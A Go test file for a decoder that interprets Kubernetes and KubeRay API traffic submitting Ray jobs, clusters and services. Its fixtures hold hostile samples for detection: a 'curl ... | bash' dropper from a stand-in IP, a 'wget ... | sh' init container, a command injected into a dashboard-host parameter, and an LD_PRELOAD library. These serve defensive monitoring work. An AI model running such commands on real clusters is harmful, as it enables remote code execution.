package ray

import (
	"encoding/base64"
	"reflect"
	"strings"
	"testing"

	"github.com/raytap/raytap/decoders/http"
)

const (
	kubectl = "User-Agent: kubectl/v1.34.2 (linux/amd64) kubernetes/8cc511e\n"
	rayJobs = "/apis/ray.io/v1/namespaces/default/rayjobs"
	dropper = "curl http://198.51.100.77/x.sh | bash"
)

// created is an object that Kubernetes or KubeRay's API server took.
func created(method, target, kind, body string) tx {
	return tx{method: method, target: target, header: kubectl + "Content-Type: " + kind + "\n", body: body, port: 8001,
		status: 201, answer: json, got: `{"apiVersion":"ray.io/v1","kind":"RayJob","metadata":{"name":"x"}}`}
}

func TestObjectsAreJobs(t *testing.T) {
	const asJSON = "application/json"
	yaml := "apiVersion: ray.io/v1\nkind: RayJob\nmetadata:\n  name: train\nspec:\n  entrypoint: |\n    " + dropper + "\n"
	for name, x := range map[string]struct {
		method, target, kind, body string
		object                     string
	}{
		"JSON":        {"POST", rayJobs, asJSON, `{"apiVersion":"ray.io/v1","kind":"RayJob","metadata":{"name":"train"},"spec":{"entrypoint":"` + dropper + `"}}`, "RayJob default/train"},
		"query":       {"POST", rayJobs + "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", asJSON, `{"metadata":{"generateName":"t-"},"spec":{"entrypoint":"` + dropper + `"}}`, "RayJob default/t-"},
		"old version": {"POST", "/apis/ray.io/v1alpha1/namespaces/ns/rayjobs/", asJSON, `{"spec":{"entrypoint":"` + dropper + `"}}`, "RayJob ns"},
		"YAML":        {"POST", rayJobs, "application/yaml", yaml, "RayJob default/train"},
		"apply":       {"PATCH", rayJobs + "/train?fieldManager=kubectl", "application/apply-patch+yaml", yaml, "RayJob default/train"},
		"apply, JSON": {"PATCH", rayJobs + "/train", "application/apply-patch+yaml", `{"spec":{"entrypoint":"` + dropper + `"}}`, "RayJob default/train"},
		"flow YAML":   {"POST", rayJobs, "application/yaml", `{metadata: {name: train}, spec: {entrypoint: '` + dropper + `'}}`, "RayJob default/train"},
		"anchors":     {"POST", rayJobs, "application/yaml", "x: &e '" + dropper + "'\nspec:\n  entrypoint: *e\n", "RayJob default"},
		"merge patch": {"PATCH", rayJobs + "/train", "application/merge-patch+json", `{"spec":{"entrypoint":"` + dropper + `"}}`, "RayJob default/train"},
		"JSON patch":  {"PATCH", rayJobs + "/train", "application/json-patch+json", `[{"value":"` + dropper + `","op":"replace","path":"/spec/entrypoint"},{"op":"remove","path":"/x"}]`, "RayJob default/train"},
		"put":         {"PUT", rayJobs + "/train", asJSON, `{"spec":{"entrypoint":"` + dropper + `"}}`, "RayJob default/train"},
		"cron":        {"POST", "/apis/ray.io/v1/namespaces/default/raycronjobs", asJSON, `{"spec":{"schedule":"* * * * *","jobTemplate":{"entrypoint":"` + dropper + `"}}}`, "RayCronJob default"},
		"prefix":      {"POST", "/k8s/clusters/c-1" + rayJobs, asJSON, `{"spec":{"entrypoint":"` + dropper + `"}}`, "RayJob default"},
		"KubeRay":     {"POST", "/apis/v1/namespaces/ml/jobs", asJSON, `{"name":"train","namespace":"ml","user":"u","entrypoint":"` + dropper + `","clusterSpec":{}}`, "RayJob ml/train"},
		"KubeRay old": {"POST", "/apis/v1alpha2/namespaces/ml/jobs", asJSON, `{"entrypoint":"` + dropper + `"}`, "RayJob ml"},
		"submission":  {"POST", "/apis/v1/namespaces/ml/jobsubmissions/rc", asJSON, `{"entrypoint":"` + dropper + `","runtimeEnv":"pip: []\n"}`, "RayCluster ml/rc"},
	} {
		c := Interpret(created(x.method, x.target, x.kind, x.body).build())
		if c == nil || !c.Job || strings.TrimSpace(c.Entrypoint) != dropper || c.Object != x.object || c.Outcome != Executed || c.Class != Exec {
			t.Errorf("%s: %+v", name, c)
		}
		if n := KeepBody(created(x.method, x.target, x.kind, x.body).build(), false); n == 0 {
			t.Errorf("%s: body is not kept", name)
		}
	}
}

func TestObjectsBringPods(t *testing.T) {
	const cluster = `{"headGroupSpec":{"rayStartParams":{"dashboard-host":"0.0.0.0; id"},"template":{"spec":{"initContainers":[{"name":"i","image":"busybox","command":["sh","-c","wget http://198.51.100.77/a -O- | sh"]}],` +
		`"containers":[{"name":"ray-head","image":"rayproject/ray:2.41.0","args":["a b"],"env":[{"name":"LD_PRELOAD","value":"/tmp/x.so"},{"name":"TOKEN","value":"secret"}],"lifecycle":{"postStart":{"exec":{"command":["touch","/x"]}}}}]}}},` +
		`"workerGroupSpecs":[{"groupName":"gpu","template":{"spec":{"containers":[{"name":"w","image":"198.51.100.9/evil:1","command":["/bin/bash","-lc","--","echo 'x'"]}]}}}]}`
	pods := []Pod{
		{"head", "", "ray start --dashboard-host=0.0.0.0; id"},
		{"head/i", "busybox", "sh -c wget http://198.51.100.77/a -O- | sh"},
		{"head/postStart", "", "touch /x"},
		{"head/ray-head", "rayproject/ray:2.41.0", "'a b'"},
		{"gpu/w", "198.51.100.9/evil:1", "/bin/bash -lc -- echo 'x'"},
	}
	for name, x := range map[string]struct{ target, body string }{
		"cluster": {"/apis/ray.io/v1/namespaces/default/rayclusters", `{"metadata":{"name":"rc"},"spec":` + cluster + `}`},
		"job":     {rayJobs, `{"spec":{"entrypoint":"python x.py","rayClusterSpec":` + cluster + `}}`},
		"service": {"/apis/ray.io/v1/namespaces/default/rayservices", `{"spec":{"serveConfigV2":"applications:\n- name: a\n  import_path: m:app\n  runtime_env:\n    working_dir: https://198.51.100.77/w.zip\n","rayClusterConfig":` + cluster + `}}`},
	} {
		c := Interpret(created("POST", x.target, "application/json", x.body).build())
		if c == nil || !reflect.DeepEqual(c.Pods, pods) || c.Cluster != (name == "cluster") || c.Job != (name == "job") || (len(c.Apps) > 0) != (name == "service") {
			t.Fatalf("%s: %+v", name, c)
		}
		if len(c.RuntimeEnv.Loads) != 1 || c.RuntimeEnv.Loads[0].Value != "/tmp/x.so" || len(c.RuntimeEnv.EnvNames) != 2 {
			t.Errorf("%s: %+v", name, c.RuntimeEnv)
		}
		if name == "service" && (c.Apps[0].Import != "m:app" || len(c.RuntimeEnv.URIs) != 1) {
			t.Errorf("%+v %+v", c.Apps, c.RuntimeEnv)
		}
	}
	c := Interpret(created("POST", "/apis/v1/namespaces/ml/clusters", "application/json",
		`{"name":"rc","user":"u","clusterSpec":{"headGroupSpec":{"computeTemplate":"t","image":"evil/ray"},"workerGroupSpec":[{"groupName":"g","image":"evil/ray"}]}}`).build())
	if c == nil || !c.Cluster || c.Object != "RayCluster ml/rc" || len(c.Pods) != 2 || c.Pods[0].Image != "evil/ray" {
		t.Errorf("%+v", c)
	}
	// A patch may put it anywhere.
	c = Interpret(created("PATCH", "/apis/ray.io/v1/namespaces/default/rayclusters/rc", "application/json-patch+json",
		`[{"op":"add","path":"/spec/workerGroupSpecs/0/template/spec/containers/0/command","value":["sh","-c","id"]}]`).build())
	if c == nil || !c.Cluster || len(c.Pods) != 1 || c.Pods[0].Command != "sh -c id" {
		t.Errorf("%+v", c)
	}
}

func TestRuntimeEnvOfAnObject(t *testing.T) {
	for name, env := range map[string]string{
		"YAML":   `"runtimeEnvYAML":"working_dir: s3://b/w.zip\npip:\n- requests\nenv_vars:\n  A: b\n"`,
		"JSON":   `"runtimeEnvYAML":"{\"working_dir\":\"s3://b/w.zip\",\"pip\":[\"requests\"],\"env_vars\":{\"A\":\"b\"}}"`,
		"base64": `"runtimeEnv":"` + base64.StdEncoding.EncodeToString([]byte(`{"working_dir":"s3://b/w.zip","pip":["requests"],"env_vars":{"A":"b"}}`)) + `"`,
	} {
		c := Interpret(created("POST", rayJobs, "application/json", `{"spec":{"entrypoint":"x",`+env+`}}`).build())
		if c == nil || !reflect.DeepEqual(c.RuntimeEnv.URIs, []string{"s3://b/w.zip"}) || !reflect.DeepEqual(c.RuntimeEnv.Packages, []string{"requests"}) ||
			!reflect.DeepEqual(c.RuntimeEnv.EnvNames, []string{"A"}) {
			t.Errorf("%s: %+v", name, c)
		}
	}
}

func TestWhatObjectsAreAskedFor(t *testing.T) {
	for _, x := range []struct {
		method, target string
		class          Class
		service        Service
	}{
		{"GET", "/apis/ray.io/v1/rayjobs?limit=500", Read, Kubernetes},
		{"GET", rayJobs, Read, Kubernetes},
		{"GET", rayJobs + "/a/status", Read, Kubernetes},
		{"DELETE", rayJobs + "/a", Control, Kubernetes},
		{"DELETE", rayJobs, Control, Kubernetes},
		{"POST", rayJobs + "?dryRun=All", Read, Kubernetes},
		{"GET", "/apis/v1alpha2/clusters", Read, KubeRayAPI},
		{"GET", "/apis/v1/namespaces/n/jobsubmissions/rc/log/raysubmit_1", Read, KubeRayAPI},
		{"POST", "/apis/v1/namespaces/n/jobsubmissions/rc/raysubmit_1", Control, KubeRayAPI},
		{"DELETE", "/apis/v1/namespaces/n/jobsubmissions/rc/raysubmit_1", Control, KubeRayAPI},
		{"DELETE", "/apis/v1/namespaces/n/clusters/rc", Control, KubeRayAPI},
	} {
		b := created(x.method, x.target, "application/json", "")
		b.status = 200
		c := Interpret(b.build())
		if c == nil || c.Class != x.class || c.Service != x.service || c.Job || c.Cluster {
			t.Errorf("%s %s: %+v", x.method, x.target, c)
		}
		if c != nil && strings.Contains(x.target, "raysubmit_1") && c.SubmissionID != "raysubmit_1" {
			t.Errorf("%s: %q", x.target, c.SubmissionID)
		}
	}
	// A number of workers is no new cluster.
	c := Interpret(created("PATCH", "/apis/ray.io/v1/namespaces/default/rayclusters/rc", "application/json-patch+json",
		`[{"op":"replace","path":"/spec/workerGroupSpecs/0/replicas","value":3}]`).build())
	if c == nil || c.Cluster && len(c.Pods) > 0 {
		t.Errorf("%+v", c)
	}
}

func TestObjectsOutOfSight(t *testing.T) {
	for name, x := range map[string]struct {
		kind   string
		change func(*http.Transaction)
	}{
		"lost":     {"application/json", func(t *http.Transaction) { t.Request.Body = http.Body{Len: 500, Missing: 500} }},
		"bad YAML": {"application/yaml", func(t *http.Transaction) { t.Request.Body.Data = []byte("a: [" + strings.Repeat("[", 100)) }},
		"cut": {"application/json", func(t *http.Transaction) {
			t.Request.Body.Data, t.Request.Body.Complete = []byte(`{"metadata":{"na`), false
		}},
		"no answer":  {"application/json", func(t *http.Transaction) { t.Response = nil }},
		"not proven": {"application/json", func(t *http.Transaction) { t.Response.Body = http.Body{Len: 10, Missing: 10} }},
	} {
		b := created("POST", rayJobs, x.kind, `{"spec":{"entrypoint":"x"}}`)
		b.change = x.change
		if c := Interpret(b.build()); c == nil || !c.Job || (c.Outcome == Executed) != (name != "no answer") {
			t.Errorf("%s: %+v", name, c)
		}
	}
	for _, x := range []struct {
		status int
		kind   string
		got    string
		want   Outcome
	}{
		{401, json, `{"kind":"Status","reason":"Unauthorized"}`, BlockedToken},
		{403, json, `{"kind":"Status","message":"rayjobs.ray.io is forbidden: User \"system:anonymous\" cannot create"}`, BlockedToken},
		{409, json, `{"kind":"Status","reason":"AlreadyExists"}`, Rejected},
		{404, "Content-Type: text/plain; charset=utf-8\n", "404 page not found\n", Rejected},
		{200, "Content-Type: text/html\n", "<html>", NotRay},
		{500, json, `{}`, Failed},
	} {
		b := created("POST", rayJobs, "application/json", `{"spec":{"entrypoint":"x"}}`)
		b.status, b.answer, b.got = x.status, x.kind, x.got
		if c := Interpret(b.build()); c == nil || c.Outcome != x.want {
			t.Errorf("%d: %+v", x.status, c)
		}
	}
}

// What Kubernetes has besides is none of Ray's.
func TestOtherObjectsAreNotRays(t *testing.T) {
	const pod = `{"apiVersion":"v1","kind":"Pod","spec":{"containers":[{"name":"a","image":"b","command":["sh","-c","` + dropper + `"]}]}}`
	for _, target := range []string{
		"/api/v1/namespaces/default/pods", "/apis/batch/v1/namespaces/default/jobs", "/apis/apps/v1/namespaces/default/deployments",
		"/apis/ray.io/v1", "/apis/ray.io/v1/namespaces/default/rayjobs/a/b/c", "/apis/example.com/v1/namespaces/default/rayjobs",
		"/apis/kubeflow.org/v1/namespaces/default/jobs", "/apis/v1beta1/jobs", "/apis", "/openapi/v2", "/version",
	} {
		b := created("POST", target, "application/json", pod)
		b.got = `{"kind":"Pod"}`
		if c := Interpret(b.build()); c != nil {
			t.Errorf("%s: %+v", target, c)
		}
	}
	b := created("POST", "/apis/v1/namespaces/default/jobs", "application/json", `{"title":"x"}`)
	if c := Interpret(b.build()); c != nil {
		t.Errorf("%+v", c)
	}
}

func FuzzManifest(f *testing.F) {
	f.Add("application/json", []byte(`{"spec":{"entrypoint":"x","rayClusterSpec":{"headGroupSpec":{"template":{"spec":{"containers":[{"command":["a"]}]}}}}}}`))
	f.Add("application/json-patch+json", []byte(`[{"op":"add","path":"/spec/a~1b/0/-","value":{"a":1}}]`))
	f.Add("application/yaml", []byte("spec:\n  entrypoint: x\n"))
	f.Fuzz(func(t *testing.T, kind string, body []byte) {
		for _, target := range []string{rayJobs, "/apis/v1/namespaces/a/clusters"} {
			Interpret(created("POST", target, strings.ReplaceAll(kind, "\n", ""), string(body)).build())
		}
	})
}

// KubeRay's second API server, and Kubernetes' own, pass the dashboard's routes on behind a service's name.
func TestJobThroughAServiceProxy(t *testing.T) {
	for _, prefix := range []string{"/api/v1/namespaces/default/services/rc-head-svc:8265/proxy", "/api/v1/namespaces/ml/services/http:rc-head-svc:dashboard/proxy"} {
		b := post(`{"entrypoint": "id"}`)
		b.target, b.port = prefix+"/api/jobs/", 8001
		c := Interpret(b.build())
		if c == nil || !c.Job || c.Entrypoint != "id" || c.Route != "/api/jobs/" || c.Prefix != prefix || c.Outcome != Executed {
			t.Errorf("%+v", c)
		}
	}
}
